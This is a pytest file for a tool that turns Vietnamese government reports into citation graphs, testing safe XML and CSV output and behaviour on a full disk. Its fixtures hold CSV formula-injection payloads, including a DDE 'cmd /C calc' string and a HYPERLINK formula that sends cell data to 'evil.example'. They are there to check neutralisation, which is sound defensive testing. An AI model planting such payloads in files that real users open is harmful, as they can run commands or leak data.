"""Outputs that stay well-formed and harmless whatever the reports hold (issue 15: control characters in
XML, CSV formula injection, writes on a full disk), each built from the robustness probe's reproduction."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import networkx as nx
import pytest
from typer.testing import CliRunner

from luocdo.cli import app
from luocdo.writing import FORMULA_START, csv_cell, xml_text

runner = CliRunner()

HEADER = """ỦY BAN NHÂN DÂN
TỈNH TRÀ VINH

Số: 77/KH-UBND

Trà Vinh, ngày 18 tháng 3 năm 2021

KẾ HOẠCH

{title}

"""

# probe 08: one vertical tab (Word's manual line break) in a cited sentence; the others it also tried
XML_BAD = "\x0b\x01\x0c\x1f\ufffe"
CONTROL_REPORT = HEADER.format(title="Triển khai công tác năm 2021") + (
    "Thực hiện Quyết định số 1847/QĐ-TTg ngày 27/12/2018 của Thủ tướng Chính phủ\x0bphê duyệt Đề án.\n\n"
    "Căn cứ Chỉ thị số 26/CT-TTg ngày 05/9/2016 của Thủ tướng Chính phủ \x01 \x0c \x1f \ufffe hết.\n"
)

# probe 09: lines (and a title) starting with = + - @ and tab
FORMULA_REPORT = HEADER.format(title="=cmd|' /C calc'!A0 triển khai") + (
    "Căn cứ Chỉ thị số 26/CT-TTg ngày 05/9/2016 của Thủ tướng Chính phủ;\n\n"
    '=HYPERLINK("http://evil.example/?"&A1,"click") Thực hiện Chỉ thị số 26/CT-TTg ngày 05/9/2016 '
    "của Thủ tướng Chính phủ.\n\n"
    "+SUM(1+1)*cmd|' /C calc'!A0 Thực hiện Quyết định số 1847/QĐ-TTg ngày 27/12/2018 của Thủ tướng "
    "Chính phủ.\n\n"
    "@SUM(1) theo Kế hoạch số 45/KH-UBND ngày 18/3/2019 của UBND tỉnh Bình Định.\n\n"
    "-2+3 Thực hiện Nghị quyết số 76/NQ-CP ngày 15/7/2021 của Chính phủ.\n\n"
    "\tThực hiện Chỉ thị số 10/CT-TTg ngày 22/4/2019 của Thủ tướng Chính phủ.\n"
)


def _store(tmp_path: Path, name: str, text: str) -> str:
    src = tmp_path / f"{name}.txt"
    src.write_text(text, encoding="utf-8")
    db = str(tmp_path / f"{name}.db")
    r = runner.invoke(app, ["ingest", str(src), "--store", db, "-q"])
    assert r.exit_code == 0, r.output
    return db


def _leftovers(folder: Path) -> list[str]:
    return [p.name for p in folder.iterdir() if p.name.startswith(".")]


# ---- XML -----------------------------------------------------------------------------------------------
def test_xml_text_replaces_only_what_xml_forbids():
    assert xml_text("a\x0bb\x0cc") == "a b c"
    assert xml_text("a\x01b\x1fc\ufffed\uffff") == "a\ufffdb\ufffdc\ufffdd\ufffd"
    keep = "tab\tLF\nCR\r Việt Nam ̀ \u2028 \x7f \ud7ff \ue000"
    assert xml_text(keep) is keep
    assert xml_text("x\udcffy") == "x\ufffdy"  # a surrogate-escaped byte of a file name


@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_graphml_and_gexf_with_control_characters_read_back(tmp_path, fmt):
    db = _store(tmp_path, "vt", CONTROL_REPORT)
    out = tmp_path / f"x.{fmt}"
    r = runner.invoke(app, ["export", "-f", fmt, "-o", str(out), "--store", db])
    assert r.exit_code == 0, r.output
    assert "Traceback" not in r.output
    ET.parse(out)  # well-formed XML
    g = (nx.read_graphml if fmt == "graphml" else nx.read_gexf)(out)
    sentences = [a.get("sentence", "") for _, _, a in g.edges(data=True)]
    assert any("Thủ tướng Chính phủ phê duyệt Đề án" in s for s in sentences), sentences
    assert any("\ufffd" in s for s in sentences), sentences  # the forbidden ones leave a mark
    assert not any(c in s for s in sentences for c in XML_BAD)
    assert g.number_of_nodes() >= 3 and _leftovers(tmp_path) == []


@pytest.mark.parametrize("fmt", ["svg", "html"])
def test_drawings_with_control_characters_are_well_formed(tmp_path, fmt):
    db = _store(tmp_path, "vt", CONTROL_REPORT)
    out = tmp_path / f"d.{fmt}"
    r = runner.invoke(app, ["draw", "77/KH-UBND", "--up", "-f", fmt, "-o", str(out), "--store", db])
    if r.exit_code and "Graphviz 'dot' not found" in r.output:
        pytest.skip("no Graphviz")
    assert r.exit_code == 0, r.output
    text = out.read_text(encoding="utf-8")
    assert not any(c in text for c in XML_BAD)
    svg = text if fmt == "svg" else text[text.index("<svg") : text.index("</svg>") + 6]
    if fmt == "svg":
        ET.fromstring(svg)
    else:  # the inline SVG of the page has no namespace declarations, and entities from HTML
        assert "\x0b" not in svg and "\ufffe" not in svg


# ---- CSV -----------------------------------------------------------------------------------------------
def test_csv_cell_follows_owasp():
    for c in FORMULA_START:
        assert csv_cell(c + "1+1") == "'" + c + "1+1"
    assert csv_cell("Thực hiện -2") == "Thực hiện -2"
    assert csv_cell("") == "" and csv_cell(None) is None and csv_cell(-2) == -2 and csv_cell(0.5) == 0.5
    assert csv_cell("'=quoted") == "'=quoted"


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _assert_inert(cells: list[str]) -> None:
    bad = [c for c in cells if c.startswith(FORMULA_START)]
    assert not bad, bad


def test_every_csv_export_neutralises_formulas(tmp_path):
    db = _store(tmp_path, "inj", FORMULA_REPORT)
    r = runner.invoke(app, ["export", "-f", "csv", "-o", str(tmp_path / "csv"), "--store", db])
    assert r.exit_code == 0, r.output
    rel = (tmp_path / "csv" / "relations.csv").read_text(encoding="utf-8")
    cells = _cells(rel)
    _assert_inert(cells)
    sentences = [row["sentence"] for row in csv.DictReader(io.StringIO(rel))]
    assert any(s.startswith("'=HYPERLINK") for s in sentences), sentences
    assert any(s.startswith("'+SUM") for s in sentences) and any(s.startswith("'-2+3") for s in sentences)
    assert any(s.startswith("'@SUM") for s in sentences)
    docs = (tmp_path / "csv" / "documents.csv").read_text(encoding="utf-8")
    _assert_inert(_cells(docs))
    assert "'=cmd|" in docs  # the report's own title
    _assert_inert(_cells((tmp_path / "csv" / "bodies.csv").read_text(encoding="utf-8")))

    r = runner.invoke(app, ["export", "-f", "neo4j-admin", "-o", str(tmp_path / "admin"), "--store", db])
    assert r.exit_code == 0, r.output
    # the neo4j-admin import files load a database, not a spreadsheet: the text stays as written
    admin = "".join(f.read_text(encoding="utf-8") for f in sorted((tmp_path / "admin").glob("*.csv")))
    admin_cells = _cells(admin)
    assert any(c.startswith("=HYPERLINK") for c in admin_cells)
    assert not any(c.startswith("'=") for c in admin_cells)
    assert _leftovers(tmp_path) == [] and _leftovers(tmp_path / "admin") == []


@pytest.mark.parametrize(
    "args",
    [
        ["search", "Thực hiện"],
        ["query", "cites", "-p", "targets=77/KH-UBND"],
        ["show", "77/KH-UBND"],
        ["stats"],
        ["validate"],
    ],
)
def test_format_csv_neutralises_formulas(tmp_path, args):
    db = _store(tmp_path, "inj", FORMULA_REPORT)
    r = runner.invoke(app, [*args, "--store", db, "-f", "csv"])
    assert r.exit_code == 0, r.output
    _assert_inert(_cells(r.stdout))
    if args[0] == "query":  # sentences are cells of their own here (search nests them in JSON)
        assert "'=HYPERLINK" in r.stdout and "'-2+3" in r.stdout, r.stdout


def test_format_json_keeps_the_text_as_it_is(tmp_path):
    db = _store(tmp_path, "inj", FORMULA_REPORT)
    r = runner.invoke(app, ["search", "HYPERLINK", "--store", db, "-f", "json"])
    assert r.exit_code == 0, r.output
    assert json.loads(r.stdout)[0]["evidence"]["sentence"].startswith("=HYPERLINK")


# ---- a full disk ----------------------------------------------------------------------------------------
# A real limit, not a mock: the command runs in a child process whose files may not grow past LIMIT bytes
# (RLIMIT_FSIZE; Python ignores SIGXFSZ, so a write past it fails with EFBIG as one past a full disk
# fails with ENOSPC). The store is only read, and SQLite's shared-memory file (32 KiB) stays under it.
LIMIT = 40_000
ROOT = Path(__file__).resolve().parents[1]
resource = pytest.importorskip("resource")


@pytest.fixture(scope="module")
def samples(tmp_path_factory) -> str:
    db = str(tmp_path_factory.mktemp("full") / "s.db")
    r = runner.invoke(app, ["ingest", str(ROOT / "sample_reports"), "--store", db, "-q"])
    assert r.exit_code == 0, r.output
    # the SPARQL store beside it built now: the limited commands below test writing their answers
    r = runner.invoke(app, ["sparql", "ASK { ?s ?p ?o }", "--store", db])
    assert r.exit_code == 0, r.output
    return db


def _limited(args: list[str], *, stdout=None) -> subprocess.CompletedProcess:
    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (LIMIT, LIMIT))

    return subprocess.run(
        [sys.executable, "-c", "from luocdo.cli import app; app()", *args],
        preexec_fn=limit,
        stdout=stdout if stdout is not None else subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        timeout=600,
    )


def _one_line_error(p: subprocess.CompletedProcess, path: str) -> None:
    assert p.returncode == 1, p.stderr
    lines = [ln for ln in p.stderr.splitlines() if ln.strip()]
    assert "Traceback" not in p.stderr and len(lines) == 1, p.stderr
    assert lines[0].startswith(f"error: {path}: cannot write ("), lines[0]


@pytest.mark.parametrize(
    "args,name",
    [
        (["export", "-f", "graphml"], "x.graphml"),
        (["export", "-f", "ttl"], "x.ttl"),
        (["export", "-f", "csv"], "csv"),
        (["export", "-f", "neo4j-admin"], "admin"),
        (["draw", "26/CT-TTg", "-f", "html"], "d.html"),
        (["draw", "26/CT-TTg", "-f", "dot"], "d.dot"),
        (["extract", str(ROOT / "sample_reports"), "-f", "jsonl"], "x.jsonl"),
    ],
)
def test_a_full_disk_leaves_no_partial_file_and_says_one_line(tmp_path, samples, args, name):
    out = tmp_path / name
    store = [] if args[0] == "extract" else ["--store", samples]
    p = _limited([*args, "-o", str(out), *store])  # a new file: nothing is left behind
    _one_line_error(p, str(out))
    assert not out.exists() and _leftovers(tmp_path) == []

    if name in ("csv", "admin"):  # an earlier export is kept as it was
        out.mkdir()
        (out / "relations.csv").write_text("old\n", encoding="utf-8")
        (out / "documents.csv").write_text("old\n", encoding="utf-8")
        keep = {f.name: f.read_text(encoding="utf-8") for f in out.iterdir()}
        _one_line_error(_limited([*args, "-o", str(out), *store]), str(out))
        assert {f.name: f.read_text(encoding="utf-8") for f in out.iterdir()} == keep
    else:
        out.write_text("old\n", encoding="utf-8")
        _one_line_error(_limited([*args, "-o", str(out), *store]), str(out))
        assert out.read_text(encoding="utf-8") == "old\n"
    assert _leftovers(tmp_path) == [] and (not out.is_dir() or _leftovers(out) == [])


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full")
@pytest.mark.parametrize("fmt", ["jsonl", "json", "table"])
def test_extract_to_a_full_standard_output_says_one_line(fmt):
    with open("/dev/full", "w") as full:
        p = _limited(
            ["extract", str(ROOT / "sample_reports" / "2021_kh_ubnd_tp_can_tho.md"), "-f", fmt], stdout=full
        )
    _one_line_error(p, "standard output")
    assert "No space left on device" in p.stderr


def test_extract_output_file_is_what_the_standard_output_gets(tmp_path):
    src = str(ROOT / "sample_reports" / "2021_kh_ubnd_tp_can_tho.md")
    r = runner.invoke(app, ["extract", src, "-f", "jsonl"])
    assert r.exit_code == 0, r.output
    r2 = runner.invoke(app, ["extract", src, "-f", "jsonl", "-o", str(tmp_path / "x.jsonl")])
    assert r2.exit_code == 0 and r2.stdout == ""
    assert (tmp_path / "x.jsonl").read_text(encoding="utf-8") == r.stdout


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full")
@pytest.mark.parametrize(
    "args",
    [
        ["stats"],
        ["query", "most_cited", "-p", "limit=1", "-f", "json"],
        ["search", "Thực hiện", "-f", "csv"],
        ["sparql", "ASK { ?s ?p ?o }"],
        ["show", "26/CT-TTg"],
        ["export", "-f", "nt", "-o", "/dev/stdout"],
    ],
)
def test_any_command_to_a_full_standard_output_says_one_line(samples, args):
    with open("/dev/full", "w") as full:
        p = _limited([*args, "--store", samples], stdout=full)
    lines = p.stderr.strip().splitlines()
    assert p.returncode == 1 and "Traceback" not in p.stderr and len(lines) == 1, p.stderr
    assert "cannot write (No space left on device)" in lines[0], lines[0]


def test_a_sparql_store_that_cannot_be_built_says_one_line(tmp_path):
    db = str(tmp_path / "s.db")
    assert runner.invoke(app, ["ingest", str(ROOT / "sample_reports"), "--store", db, "-q"]).exit_code == 0
    p = _limited(["sparql", "ASK { ?s ?p ?o }", "--store", db])  # its files outgrow the size limit
    assert p.returncode == 1 and "Traceback" not in p.stderr, p.stderr
    assert "cannot build the SPARQL store" in p.stderr.strip().splitlines()[-1]
    assert not [x for x in tmp_path.iterdir() if x.name.startswith(".s.db.oxigraph")]  # no half-built copy left


def test_replacing_keeps_modes_and_links(tmp_path):
    import os
    import stat

    from luocdo.writing import replacing, replacing_folder

    mask = os.umask(0o022)
    try:
        with replacing(tmp_path / "new.txt") as f:
            f.write("a")
        assert stat.S_IMODE((tmp_path / "new.txt").stat().st_mode) == 0o644
        (tmp_path / "new.txt").chmod(0o600)
        with replacing(tmp_path / "new.txt") as f:
            f.write("b")
        assert stat.S_IMODE((tmp_path / "new.txt").stat().st_mode) == 0o600
        (tmp_path / "link.txt").symlink_to(tmp_path / "new.txt")
        with replacing(tmp_path / "link.txt") as f:
            f.write("c")
        assert (tmp_path / "link.txt").is_symlink() and (tmp_path / "new.txt").read_text() == "c"
        with replacing_folder(tmp_path / "out") as d:
            (d / "x.csv").write_text("x\n")
        assert stat.S_IMODE((tmp_path / "out").stat().st_mode) == 0o755
        with pytest.raises(RuntimeError), replacing(tmp_path / "new.txt") as f:
            f.write("half")
            raise RuntimeError
        assert (tmp_path / "new.txt").read_text() == "c"
    finally:
        os.umask(mask)
    assert _leftovers(tmp_path) == []
